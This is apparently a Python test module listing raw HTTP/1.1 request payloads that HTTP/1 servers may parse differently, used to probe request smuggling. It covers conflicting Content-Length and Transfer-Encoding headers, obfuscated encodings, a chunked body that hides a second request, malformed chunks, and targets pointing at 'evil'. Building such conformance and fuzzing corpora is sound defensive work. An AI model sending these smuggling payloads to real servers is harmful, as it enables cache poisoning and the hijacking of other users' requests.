"""
Requests that HTTP/1 servers read differently: what request smuggling is made of (RFC 9112, sections 2, 5, 6 and 7).

Each is a list of pieces to send, with pauses in seconds. ``FOLLOW`` is a second request behind most of them, so that
a server which ends the first one elsewhere answers a different number of requests.
"""

FOLLOW = b"GET /follow HTTP/1.1\r\nHost: m\r\n\r\n"


def post(*lines: bytes, body: bytes = b"", line: bytes = b"POST /p HTTP/1.1", host: bytes = b"Host: m\r\n") -> bytes:
    """A request with these header lines, each given without its CRLF."""
    return line + b"\r\n" + host + b"".join(each + b"\r\n" for each in lines) + b"\r\n" + body


CHUNKED = b"Transfer-Encoding: chunked"
HELLO = b"5\r\nhello\r\n0\r\n\r\n"

_WITH_FOLLOW: dict[str, bytes] = {
    "plain GET": post(line=b"GET /g HTTP/1.1"),
    "plain POST": post(b"Content-Length: 5", body=b"hello"),
    "plain chunked": post(CHUNKED, body=HELLO),
    "lower-case names": post(b"content-length: 5", body=b"hello"),
    # Content-Length and Transfer-Encoding together
    "CL and TE": post(b"Content-Length: 5", CHUNKED, body=HELLO),
    "CL of the whole and TE": post(b"Content-Length: 15", CHUNKED, body=HELLO),
    "TE and CL 0": post(CHUNKED, b"Content-Length: 0", body=HELLO),
    "CL 4 and TE that hides a request": post(b"Content-Length: 4", CHUNKED, body=b"22\r\n" + FOLLOW + b"\r\n0\r\n\r\n"),
    # Transfer-Encoding
    "TE twice": post(CHUNKED, CHUNKED, body=HELLO),
    "TE chunked, chunked": post(b"Transfer-Encoding: chunked, chunked", body=HELLO),
    "TE chunked, identity": post(b"Transfer-Encoding: chunked, identity", body=HELLO),
    "TE identity, chunked": post(b"Transfer-Encoding: identity, chunked", body=HELLO),
    "TE identity": post(b"Transfer-Encoding: identity", b"Content-Length: 5", body=b"hello"),
    "TE gzip, chunked": post(b"Transfer-Encoding: gzip, chunked", body=HELLO),
    "TE with a space before the colon": post(b"Transfer-Encoding : chunked", body=HELLO),
    "TE with a tab before the colon": post(b"Transfer-Encoding\t: chunked", body=HELLO),
    "TE folded": post(b"Transfer-Encoding:\r\n chunked", body=HELLO),
    "TE folded behind CL": post(b"Content-Length: 15\r\n Transfer-Encoding: chunked", body=HELLO),
    "TE xchunked": post(b"Transfer-Encoding: xchunked", body=HELLO),
    "TE ,chunked": post(b"Transfer-Encoding: ,chunked", body=HELLO),
    "TE chunked,": post(b"Transfer-Encoding: chunked,", body=HELLO),
    "TE with a no-break space": post(b"Transfer-Encoding: \xa0chunked", body=HELLO),
    "TE with a vertical tab": post(b"Transfer-Encoding: \x0bchunked", body=HELLO),
    "TE with a tab": post(b"Transfer-Encoding:\tchunked", body=HELLO),
    "TE CHUNKED": post(b"Transfer-Encoding: CHUNKED", body=HELLO),
    "TE quoted": post(b'Transfer-Encoding: "chunked"', body=HELLO),
    "TE with a parameter": post(b"Transfer-Encoding: chunked;q=1", body=HELLO),
    "TE empty": post(b"Transfer-Encoding:", b"Content-Length: 5", body=b"hello"),
    "TE with an underscore": post(b"Transfer_Encoding: chunked", b"Content-Length: 15", body=HELLO),
    "TE behind a NUL": post(b"X: a\x00", CHUNKED, body=HELLO),
    "TE of HTTP/1.0": post(CHUNKED, body=HELLO, line=b"POST /p HTTP/1.0"),
    # Content-Length
    "CL 5, 5": post(b"Content-Length: 5, 5", body=b"hello"),
    "CL twice, equal": post(b"Content-Length: 5", b"Content-Length: 5", body=b"hello"),
    "CL twice, different": post(b"Content-Length: 5", b"Content-Length: 0", body=b"hello"),
    "CL +5": post(b"Content-Length: +5", body=b"hello"),
    "CL 0x5": post(b"Content-Length: 0x5", body=b"hello"),
    "CL 1_0": post(b"Content-Length: 1_0", body=b"helloworld"),
    "CL 010": post(b"Content-Length: 010", body=b"helloworld"),
    "CL empty": post(b"Content-Length:", body=b""),
    "CL -48": post(b"Content-Length: -48", body=b""),
    "CL 1Z": post(b"Content-Length: 1Z", body=b"h"),
    "CL 5 with a space inside": post(b"Content-Length: 1 0", body=b"helloworld"),
    "CL of 40 digits": post(b"Content-Length: " + b"9" * 40, body=b"hello"),
    "CL with a space before the colon": post(b"Content-Length : 5", body=b"hello"),
    "CL in Connection": post(b"Content-Length: 5", b"Connection: content-length", body=b"hello"),
    "GET with a body": post(b"Content-Length: 5", body=b"hello", line=b"GET /g HTTP/1.1"),
    "HEAD with a body": post(b"Content-Length: 5", body=b"hello", line=b"HEAD /h HTTP/1.1"),
    # chunks
    "chunk size 0x5": post(CHUNKED, body=b"0x5\r\nhello\r\n0\r\n\r\n"),
    "chunk size +5": post(CHUNKED, body=b"+5\r\nhello\r\n0\r\n\r\n"),
    "chunk size -0": post(CHUNKED, body=b"-0\r\n\r\n"),
    "chunk size 0_5": post(CHUNKED, body=b"0_5\r\nhello\r\n0\r\n\r\n"),
    "chunk size empty": post(CHUNKED, body=b"\r\nhello\r\n0\r\n\r\n"),
    "chunk size of 17 digits": post(CHUNKED, body=b"F" * 17 + b"\r\nhello\r\n0\r\n\r\n"),
    "chunk size that wraps": post(CHUNKED, body=b"10000000000000005\r\nhello\r\n0\r\n\r\n"),
    "chunk size with a space before": post(CHUNKED, body=b" 5\r\nhello\r\n0\r\n\r\n"),
    "chunk size with a space behind": post(CHUNKED, body=b"5 \r\nhello\r\n0\r\n\r\n"),
    "chunk size 005": post(CHUNKED, body=b"005\r\nhello\r\n00\r\n\r\n"),
    "chunk extension": post(CHUNKED, body=b"5;a=b\r\nhello\r\n0;c\r\n\r\n"),
    "chunk extension with a bare LF": post(CHUNKED, body=b"5;a\nhello\r\n0\r\n\r\n"),
    "chunk extension with a bare CR": post(CHUNKED, body=b"5;a\rb\r\nhello\r\n0\r\n\r\n"),
    "chunk extension with a quoted LF": post(CHUNKED, body=b'5;a="\n"\r\nhello\r\n0\r\n\r\n'),
    "chunk data without CRLF": post(CHUNKED, body=b"5\r\nhello0\r\n\r\n"),
    "chunk data with two bytes instead of CRLF": post(CHUNKED, body=b"5\r\nhelloXX0\r\n\r\n"),
    "chunks with bare LF": post(CHUNKED, body=b"5\nhello\n0\n\n"),
    "CRLF before the last chunk": post(CHUNKED, body=b"5\r\nhello\r\n\r\n0\r\n\r\n"),
    "bytes behind the last chunk": post(CHUNKED, body=b"5\r\nhello\r\n0\r\nX\r\n\r\n"),
    "last chunk without an empty line": post(CHUNKED, body=b"5\r\nhello\r\n0\r\n"),
    "trailers": post(CHUNKED, b"Trailer: T", body=b"5\r\nhello\r\n0\r\nT: 1\r\n\r\n"),
    "a trailer that is Content-Length": post(CHUNKED, body=b"5\r\nhello\r\n0\r\nContent-Length: 9\r\n\r\n"),
    # lines and names
    "bare LF line ends": b"POST /p HTTP/1.1\nHost: m\nContent-Length: 5\n\nhello",
    "bare LF behind one field": post(b"X: 1\nContent-Length: 5", body=b"hello"),
    "bare CR in a value": post(b"X: 1\rContent-Length: 5", body=b""),
    "NUL in a value": post(b"X: a\x00b", b"Content-Length: 5", body=b"hello"),
    "NUL in a name": post(b"X\x00: a", b"Content-Length: 5", body=b"hello"),
    "empty name": post(b": a", b"Content-Length: 5", body=b"hello"),
    "space at the first field": post(b" X: 1", b"Content-Length: 5", body=b"hello", host=b""),
    "name without a colon": post(b"X", b"Content-Length: 5", body=b"hello"),
    "non-ASCII name": post(b"\xc3\xa9: a", b"Content-Length: 5", body=b"hello"),
    "non-ASCII value": post(b"X: \xc3\xa9", b"Content-Length: 5", body=b"hello"),
    "folded value": post(b"X: a\r\n b", b"Content-Length: 5", body=b"hello"),
    "empty lines before": b"\r\n\r\n" + post(b"Content-Length: 5", body=b"hello"),
    "two Hosts": post(b"Host: other", b"Content-Length: 5", body=b"hello"),
    "no Host": post(b"Content-Length: 5", body=b"hello", host=b""),
    "Expect with a list": post(b"Expect: x 100-continue", b"Content-Length: 5", body=b"hello"),
    "Upgrade h2c": post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"),
    "connection close": post(b"Connection: close", b"Content-Length: 5", body=b"hello"),
    "keep-alive of HTTP/1.0": post(b"Connection: keep-alive", line=b"GET /g HTTP/1.0"),
    # request lines
    "version 1.32": post(b"Content-Length: 5", body=b"hello", line=b"POST /p HTTP/1.32"),
    "version with CR": post(b"Content-Length: 5", body=b"hello", line=b"POST /p HTTP/\r\r1.1"),
    "version 2.0": post(b"Content-Length: 5", body=b"hello", line=b"POST /p HTTP/2.0"),
    "version lower case": post(b"Content-Length: 5", body=b"hello", line=b"POST /p http/1.1"),
    "no version": b"GET /g\r\n\r\n",
    "two spaces": post(b"Content-Length: 5", body=b"hello", line=b"POST  /p  HTTP/1.1"),
    "tab for space": post(b"Content-Length: 5", body=b"hello", line=b"POST\t/p\tHTTP/1.1"),
    "absolute target": post(line=b"GET http://evil/g HTTP/1.1"),
    "authority in the target": post(line=b"GET //evil/g HTTP/1.1"),
    "asterisk": post(line=b"OPTIONS * HTTP/1.1"),
    "CONNECT": post(line=b"CONNECT evil:443 HTTP/1.1"),
    "encoded path": post(line=b"GET /a%2f..%00;x/%252e?q=%zz HTTP/1.1"),
    "non-ASCII path": post(line=b"GET /\xc3\xa9 HTTP/1.1"),
    "NUL in the path": post(line=b"GET /a\x00b HTTP/1.1"),
    "unknown method": post(line=b"FROB /g HTTP/1.1"),
    "good, then bad": post(b"Content-Length: 5", body=b"hello") + post(b"Content-Length: 1Z", body=b"h"),
    "early answer, then its body": post(b"Content-Length: %d" % len(FOLLOW), body=FOLLOW, line=b"POST /early HTTP/1.1"),
    "head of 150 fields": post(*(b"X-%d: 1" % n for n in range(150)), line=b"GET /g HTTP/1.1"),
    "head of 9,000 bytes": post(b"X: " + b"a" * 9000, line=b"GET /g HTTP/1.1"),
}  # fmt: skip

Pieces = tuple[bytes | float, ...]

PAYLOADS: dict[str, Pieces] = {
    **{name: (payload + FOLLOW,) for name, payload in _WITH_FOLLOW.items()},
    "pause before the body": (post(b"Content-Length: 5"), 1.5, b"hello" + FOLLOW),
    "pause in a chunk": (post(CHUNKED, body=b"5\r\nhe"), 1.0, b"llo\r\n0\r\n\r\n" + FOLLOW),
    "early answer, pause, then its body": (
        post(b"Content-Length: %d" % len(FOLLOW), line=b"POST /early HTTP/1.1"),
        1.0,
        FOLLOW,
    ),
    "Expect: 100-continue": (post(b"Expect: 100-continue", b"Content-Length: 5"), 0.5, b"hello" + FOLLOW),
    "body that never comes": (post(b"Content-Length: 500", body=b"hello"),),
    "head that never ends": (b"POST /p HTTP/1.1\r\nHost: m\r\nX",),
    "CR LF cut in two": (b"GET /g HTTP/1.1\r\nHost: m\r\n\r", 0.2, b"\n" + FOLLOW),
}  # fmt: skip
